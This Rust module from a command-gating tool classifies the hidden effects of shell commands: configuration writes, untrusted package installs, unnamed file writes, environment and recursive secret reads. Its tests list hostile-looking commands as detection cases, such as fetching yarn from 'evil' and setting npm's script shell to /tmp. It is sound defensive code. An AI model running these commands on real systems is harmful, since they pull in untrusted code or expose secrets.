//! The few facts about programs that cannot be tables: scripts and settings read as their
//! programs read them, one checker per file, named by the records that need them. Each errs
//! toward "runs": a checker that cannot read its input says so.

mod archives;
pub mod awk;
mod downloads;
pub mod git;
pub mod jq;
pub mod landings;
pub mod make;
pub mod packages;
mod search;
pub use search::{name_matches, plain_find_exec};
pub mod sed;
pub mod ssh;
mod wicket;

use crate::{lookup, Parsed, Program, Scripts};

/// The checker that reads what a program's argv does beyond its options, named by the
/// program's record: the code that cannot be a table, one file per family in `checkers/`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Checker {
    /// Nothing beyond the options.
    None,
    /// git: sub-commands that run code, `worktree add` outside, `config` writes, aliases.
    Git,
    /// GNU make: command-line assignments that run code.
    Make,
    /// go: `go generate`, a linker named by `-ldflags`.
    Go,
    /// npm, pnpm, yarn, bun: sub-commands that run packages, configuration writes, package
    /// specs from outside the registry; `set` writes configuration when the flag says so.
    JsPackages {
        /// `set` is `config set` (npm, pnpm) or downloads the tool itself (yarn).
        set_writes_config: bool,
    },
    /// pip, pipx, poetry, pdm: configuration writes, requirements from outside the index.
    PyPackages,
    /// uv: its `pip`, `add` and `tool` sub-commands, read as pip's.
    Uv,
    /// python: `-m pip`, read as pip.
    Python,
    /// cargo: `install --git|--path`.
    Cargo,
    /// The second operand is the file written (`uniq IN OUT`); these options take a value.
    SecondOperand(&'static [&'static str]),
    /// tar: extracting writes files named inside the archive; otherwise it reads its
    /// operands' folders.
    Tar,
    /// unzip: extracts unless it lists, tests or prints.
    Unzip,
    /// cpio: extracts or copies in.
    Cpio,
    /// 7z: `x` and `e` extract.
    SevenZip,
    /// curl: `-O`, `-J` save files named by the URL or the server.
    Curl,
    /// wget: saves files named by the URL unless `-O` names one.
    Wget,
    /// Saves files named by the URL (aria2c, axel).
    SavesByUrl,
    /// ps: BSD-style words with `e` print every process's environment.
    Ps,
    /// grep: `-r` reads the folders below its operands.
    Grep,
    /// A searcher that always reads folders below (rg, ag, ack), skipping dot files unless told.
    Searcher,
    /// find: reads the folders below its starting points when it runs a command on them.
    FindExec,
    /// GNU patch: writes the files its patch names (issue 39, class 6).
    Patch,
    /// A copy that, with one of these letters or long options, reads the folders below its
    /// operands and writes what they hold below the destination (`cp -r`, `rsync -r`).
    CopyTree {
        /// Short option letters.
        letters: &'static [char],
        /// Long options.
        longs: &'static [&'static str],
        /// A source ending in `/` copies its contents (rsync), not only `SRC/.` (cp).
        slash_contents: bool,
    },
    /// Writes files under names stored in its input with one of these flags (`gunzip -N`), or
    /// when its first word holds one of the key letters (`ar x`).
    StoredNames {
        /// Short option letters.
        flags: &'static [char],
        /// Long options.
        longs: &'static [&'static str],
        /// Letters of the key word (the first argument, with or without `-`).
        keys: &'static [char],
    },
    /// wicket itself: its commands that loosen or bypass its own gate.
    Wicket,
    /// date: an operand that is not a `+FORMAT` sets the clock.
    SetsClock,
    /// Reads the folders below its operands with one of these letters or long options.
    Recursive {
        /// Short option letters.
        letters: &'static [char],
        /// Long options.
        longs: &'static [&'static str],
    },
}

/// What one argv does that its options alone do not say.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Effects {
    /// Words an allow rule must spell out (`pkg set`, `config set`, a package spec that is a
    /// path or URL).
    pub risky: Vec<String>,
    /// Files written, named by operands (`uniq IN OUT`, `git config -f FILE`).
    pub writes: Vec<String>,
    /// Why the command writes files whose names it does not spell (`curl -O`, `wget URL`,
    /// `tar -x`): no rule can cover these.
    pub unknown_writes: Vec<String>,
    /// Why the command reads the environment of processes (`ps e`): a secret read.
    pub environment: Option<String>,
    /// Folders the program reads everything below (`grep -r x DIR`); `.` when it defaults to
    /// the working folder. The engine decides whether a secret lies below.
    pub recursive: Vec<String>,
    /// Name patterns (find's `-name`, in its plain form) that every file the recursive reader
    /// hands on matches; empty: any file below.
    pub recursive_names: Vec<String>,
    /// The recursive reader skips dot files unless told otherwise (`rg` without `--hidden`).
    pub skips_hidden: bool,
    /// Input that names the files written (a patch, a folder copied, a tree git writes
    /// from): the engine reads it at decision time.
    pub landings: Vec<landings::Landing>,
    /// Why the command changes wicket's own gate (agrees to loosening settings, writes allow
    /// rules, lands held files, loosens a run): the person's to run, never a tool's.
    pub gate_changes: Vec<String>,
}

/// Which words of an argv (program first; indices into it) only name or match files and are
/// never opened for their contents (issue 40, "naming a file is not reading it"): every word
/// of a program whose record says its words only name files (`ls`, `stat`) or only reach its
/// output (`echo`, `printf`), grep's pattern operand, and every word of `git ls-files`, `git
/// status` and `git check-ignore` when each option is one their tables know to read nothing. Empty when unsure:
/// each word then counts as a file the command may read.
pub fn unread_words(words: &[&str]) -> Vec<usize> {
    let Some(program) = words.first() else { return Vec::new() };
    let Some(record) = lookup(program) else { return Vec::new() };
    if record.names_only || record.only_prints {
        return (1..words.len()).collect();
    }
    match record.checker {
        Checker::Grep => search::grep_pattern_at(&words[1..]).map(|i| vec![i + 1]).unwrap_or_default(),
        Checker::Git => {
            let parsed = record.parse(&words[1..]);
            let named = matches!(parsed.path.as_slice(), ["ls-files"] | ["status"] | ["check-ignore"])
                && parsed.unknown.is_empty()
                && parsed.found.iter().all(|f| f.opt.effect == crate::Effect::Plain);
            if named {
                (1..words.len()).collect()
            } else {
                Vec::new()
            }
        }
        _ => Vec::new(),
    }
}

/// Does an argv (program first, static words) of a program that only reads read nothing but
/// its standard input (`tail -20`, `wc -l`, `cut -d: -f1`, `grep -E "ok|FAILED"`)? Its option
/// table knows every option and none names a file (`wc --files0-from F`, `grep -f F`), it has
/// no operand but those it never opens (grep's pattern), and it reads no folder (`grep -r x`
/// reads `.`). `false` when unsure: a program without a table, grep with its patterns in
/// `-e` or after other options.
pub fn reads_only_input(words: &[&str]) -> bool {
    let Some((program, args)) = words.split_first() else { return false };
    let Some(record) = lookup(program) else { return false };
    if !record.only_reads || program.contains('/') {
        return false;
    }
    let e = effects(words);
    if !e.recursive.is_empty() || !e.writes.is_empty() || !e.risky.is_empty() || !e.unknown_writes.is_empty() {
        return false;
    }
    match record.checker {
        // The pattern, last: every other word is an option of grep's that takes no file.
        Checker::Grep => {
            search::grep_pattern_at(args) == Some(args.len().wrapping_sub(1))
                && !args.iter().any(|w| w.starts_with("--exclude-from") || w.starts_with("--file"))
        }
        _ => match crate::grammar::program(program) {
            Some(table) => {
                let parsed = table.parse(args);
                parsed.unknown.is_empty()
                    && parsed.path.is_empty()
                    && parsed.found.iter().all(|f| f.opt.effect == crate::Effect::Plain)
                    && parsed.operands.len() <= unread_words(words).len()
            }
            None => false,
        },
    }
}

/// What an argv (program first, static words) does beyond its options, as its record's
/// checker reads it; nothing for a program the catalogue does not know.
pub fn effects(words: &[&str]) -> Effects {
    let mut e = Effects::default();
    let Some(program) = words.first() else { return e };
    let Some(record) = lookup(program) else { return e };
    let name = program.rsplit('/').next().unwrap_or(program);
    let args = &words[1..];
    match record.checker {
        Checker::JsPackages { set_writes_config } => packages::js(set_writes_config, args, &mut e),
        Checker::PyPackages => packages::py(false, args, &mut e),
        Checker::Uv => packages::uv(args, &mut e),
        Checker::Python => packages::python(args, &mut e),
        Checker::Cargo => packages::cargo(args, &mut e),
        Checker::Git => {
            git::config_writes(args, &mut e);
            git::tree_writes(args, &mut e);
        }
        Checker::Patch => landings::patch(args, &mut e),
        Checker::CopyTree { letters, longs, slash_contents } => {
            landings::copy_tree(record, args, letters, longs, slash_contents, &mut e)
        }
        Checker::StoredNames { flags, longs, keys } => landings::stored_names(name, args, flags, longs, keys, &mut e),
        Checker::SecondOperand(with_value) => {
            if let Some(out) = operands(args, with_value).get(1) {
                if *out != "-" {
                    e.writes.push(out.to_string());
                }
            }
        }
        Checker::Tar => archives::tar(name, args, &mut e),
        Checker::Unzip => archives::unzip(args, &mut e),
        Checker::Cpio => archives::cpio(args, &mut e),
        Checker::SevenZip => archives::seven_zip(args, &mut e),
        Checker::Curl => downloads::curl(record, args, &mut e),
        Checker::Wget => downloads::wget(args, &mut e),
        Checker::SavesByUrl => e.unknown_writes.push(format!("`{name}` saves files named by the URL")),
        Checker::Ps => search::ps(args, &mut e),
        Checker::Grep => search::grep(args, &mut e),
        Checker::Searcher => search::searcher(args, &mut e),
        Checker::FindExec => search::find(args, &mut e),
        Checker::Recursive { letters, longs } => search::recursive(args, letters, longs, &mut e),
        Checker::Wicket => wicket::changes(args, &mut e),
        Checker::SetsClock => {
            let with_value = ["-d", "--date", "-f", "--file", "-r", "--reference", "--rfc-3339", "-s", "--set"];
            for w in operands(args, &with_value) {
                if !w.starts_with('+') {
                    e.risky.push(w.to_string());
                }
            }
        }
        Checker::None | Checker::Make | Checker::Go => {}
    }
    e
}

/// The words an allow rule must spell out for what a sub-command (or a program's first
/// operand) does on its own, beyond its options, as the record's checker reads the parse.
pub fn risky_subs(table: &'static Program, parsed: &Parsed) -> Vec<String> {
    match table.checker {
        Checker::Git => git::risky(parsed),
        Checker::Make => make::risky(parsed),
        Checker::Go => go_risky(parsed),
        Checker::JsPackages { .. } => packages::risky(parsed),
        _ => Vec::new(),
    }
}

/// `go generate` runs the `//go:generate` lines of the sources as written; `-ldflags=-extld=PROG`
/// (or `-extldflags`) makes the Go linker run PROG.
fn go_risky(parsed: &Parsed) -> Vec<String> {
    let first = parsed.operands.first().map(String::as_str);
    match parsed.path.as_slice() {
        [] if first == Some("generate") => vec!["generate".to_string()],
        [_] if parsed
            .found
            .iter()
            .any(|f| f.opt.name() == "-ldflags" && f.value.as_deref().is_some_and(|v| v.contains("extld"))) =>
        {
            vec!["-ldflags".to_string()]
        }
        _ => Vec::new(),
    }
}

/// Operands of a GNU-style argv: words that are not options, `--` ending the options. Values
/// of the listed options (`-w NAME`) are skipped.
pub(crate) fn operands<'a>(args: &[&'a str], with_value: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut end = false;
    let mut skip = false;
    for w in args {
        if skip {
            skip = false;
            continue;
        }
        if end || !w.starts_with('-') || *w == "-" {
            out.push(*w);
        } else if *w == "--" {
            end = true;
        } else if with_value.contains(w) {
            skip = true;
        }
    }
    out
}

/// Does a short cluster (`-rn`) or any word equal to a long name hold the flag?
pub(crate) fn has_flag(args: &[&str], letters: &[char], longs: &[&str]) -> bool {
    args.iter().take_while(|w| **w != "--").any(|w| {
        if let Some(l) = w.strip_prefix("--") {
            let name = l.split('=').next().unwrap_or(l);
            longs.iter().any(|x| x.trim_start_matches('-') == name)
        } else if let Some(c) = w.strip_prefix('-') {
            c.chars().next().is_some_and(|f| f.is_ascii_alphabetic()) && c.chars().any(|ch| letters.contains(&ch))
        } else {
            false
        }
    })
}

/// A path that stays below the folder the command runs in: relative, with no `..` step and
/// nothing the shell or the program would expand (`~`, `$`).
pub fn stays_inside(path: &str) -> bool {
    !path.is_empty()
        && !path.starts_with(['/', '~'])
        && !path.contains('$')
        && !path.split('/').any(|step| step == "..")
}

impl Scripts {
    /// Does this script, read by this checker, run code, touch files or reach outside its
    /// input? A program that takes no script (`Scripts::None`) runs whatever it was given.
    pub fn runs(self, script: &str) -> bool {
        match self {
            Scripts::Sed => sed::script_runs(script),
            Scripts::Awk => awk::program_runs(script),
            Scripts::Jq => jq::filter_reaches_out(script),
            Scripts::None => true,
        }
    }
}

/// The index just past the next unescaped `delim` from `i`.
pub(crate) fn skip_delimited(b: &[u8], mut i: usize, delim: u8) -> usize {
    while i < b.len() {
        if b[i] == b'\\' {
            i += 2;
            continue;
        }
        if b[i] == delim {
            return i + 1;
        }
        i += 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    fn eff(cmd: &str) -> Effects {
        let words: Vec<&str> = cmd.split(' ').collect();
        effects(&words)
    }

    fn unread(cmd: &str) -> Vec<usize> {
        let words: Vec<&str> = cmd.split(' ').collect();
        unread_words(&words)
    }

    #[test]
    fn words_that_only_name_files() {
        assert_eq!(unread("ls -la .env"), [1, 2]);
        assert_eq!(unread("echo .env.local"), [1]);
        assert_eq!(unread("grep .env .gitignore"), [1]);
        assert_eq!(unread("grep -n -A 2 .env .gitignore"), [4]);
        assert_eq!(unread("grep -A2 --color=never .env .gitignore"), [3]);
        assert_eq!(unread("grep -- -x .gitignore"), [2]);
        assert_eq!(unread("git ls-files .env"), [1, 2]);
        // Every operand is a file once `-e`/`-f` gives the patterns, and an option grep does
        // not have by that name could take a value.
        assert!(unread("grep README.md -e KEY .env").is_empty());
        assert!(unread("grep -f .env .env").is_empty());
        assert!(unread("grep --cont 2 KEY .env").is_empty());
        assert!(unread("grep -ie KEY .env").is_empty());
        assert!(unread("cat .env").is_empty());
        assert!(unread("git log -p -- .env").is_empty());
        assert!(unread("git ls-files -X .env").is_empty());
    }

    #[test]
    fn sub_commands_that_write_configuration_are_risky() {
        let risky: &[(&str, &[&str])] = &[
            ("npm pkg set scripts.test=id", &["pkg set"]),
            ("npm pkg get name", &[]),
            ("npm set-script x id", &["set-script"]),
            ("npm config set script-shell /tmp/x", &["config set"]),
            ("npm set script-shell=/tmp/x", &["set"]),
            ("npm config get registry", &[]),
            ("pnpm config set x y", &["config set"]),
            ("yarn config set x y", &["config set"]),
            ("yarn set version https://evil/yarn.js", &["set"]),
            ("pip config set global.index-url x", &["config set"]),
            ("pip config list", &[]),
            ("npm install left-pad", &[]),
            ("npm i ./x", &["./x"]),
            ("npm i -D github:u/r", &["github:u/r"]),
            ("pnpm add https://x/y.tgz", &["https://x/y.tgz"]),
            ("yarn add u/r", &["u/r"]),
            ("pip install requests", &[]),
            ("pip install -r requirements.txt", &[]),
            ("pip install ./x", &["./x"]),
            ("pip install -e .", &["-e ."]),
            ("pip3 install git+https://x/y", &["git+https://x/y"]),
            ("python3 -m pip install x.tar.gz", &["x.tar.gz"]),
            ("uv pip install ../x", &["../x"]),
            ("uv add --editable ./x", &["--editable ./x"]),
            ("poetry add ./x", &["./x"]),
            ("cargo install --git https://x/y", &["--git"]),
            ("cargo install ripgrep", &[]),
        ];
        for (cmd, want) in risky {
            assert_eq!(eff(cmd).risky, want.iter().map(|s| s.to_string()).collect::<Vec<_>>(), "{cmd}");
        }
    }

    #[test]
    fn writes_nobody_named() {
        let unknown = [
            "curl -O https://x/a",
            "curl -sSLO https://x/a",
            "curl --remote-name-all https://x/a",
            "curl -OJ https://x/a",
            "wget https://x/a",
            "wget -q https://x/a",
            "tar -xzf a.tgz",
            "tar xzf a.tgz",
            "tar --extract -f a.tar",
            "unzip a.zip",
            "cpio -idv",
            "aria2c https://x/a",
        ];
        for cmd in unknown {
            assert!(!eff(cmd).unknown_writes.is_empty(), "{cmd}");
        }
        let named = [
            "curl https://x/a",
            "curl -o out https://x/a",
            "wget -O out https://x/a",
            "wget --spider https://x/a",
            "tar -tzf a.tgz",
            "tar -czf a.tgz dir",
            "unzip -l a.zip",
            "cpio -o",
        ];
        for cmd in named {
            assert!(eff(cmd).unknown_writes.is_empty(), "{cmd}");
        }
        assert_eq!(eff("npm pkg set scripts.x=id").writes, vec!["package.json"]);
        assert_eq!(eff("uniq in out").writes, vec!["out"]);
        assert_eq!(eff("uniq -c in out").writes, vec!["out"]);
        assert_eq!(eff("cpp in.c out.i").writes, vec!["out.i"]);
        assert_eq!(eff("xxd -r in out").writes, vec!["out"]);
        assert!(eff("uniq in").writes.is_empty());
        assert_eq!(eff("git config -f x.cfg core.pager id").writes, vec!["x.cfg"]);
        assert_eq!(eff("git config --file=y core.pager id").writes, vec!["y"]);
        assert!(eff("git config -f x.cfg --get core.pager").writes.is_empty());
        assert!(eff("git config --get core.pager").writes.is_empty());
    }

    #[test]
    fn environments_and_recursive_reads() {
        assert!(eff("ps e").environment.is_some());
        assert!(eff("ps eww").environment.is_some());
        assert!(eff("ps auxe").environment.is_some());
        assert!(eff("ps aux").environment.is_none());
        assert!(eff("ps -ef").environment.is_none());
        assert!(eff("ps -e").environment.is_none());
        assert_eq!(eff("grep -r x").recursive, vec!["."]);
        assert_eq!(eff("grep -rn x src").recursive, vec!["src"]);
        assert_eq!(eff("grep -R -e x a b").recursive, vec!["a", "b"]);
        assert!(eff("grep x a").recursive.is_empty());
        assert_eq!(eff("rg x").recursive, vec!["."]);
        assert!(eff("rg x").skips_hidden);
        assert!(!eff("rg --hidden x").skips_hidden);
        assert_eq!(eff("find . -exec cat {} +").recursive, vec!["."]);
        assert!(eff("find . -name x").recursive.is_empty());
        assert_eq!(eff("cp -r a b").recursive, vec!["a", "b"]);
        assert!(eff("cp a b").recursive.is_empty());
        assert_eq!(eff("tar czf o.tgz d").recursive, vec!["czf", "o.tgz", "d"]);
        assert_eq!(eff("zip -r o.zip d").recursive, vec!["o.zip", "d"]);
        assert!(eff("rsync -a d e").recursive.len() == 2);
    }
}
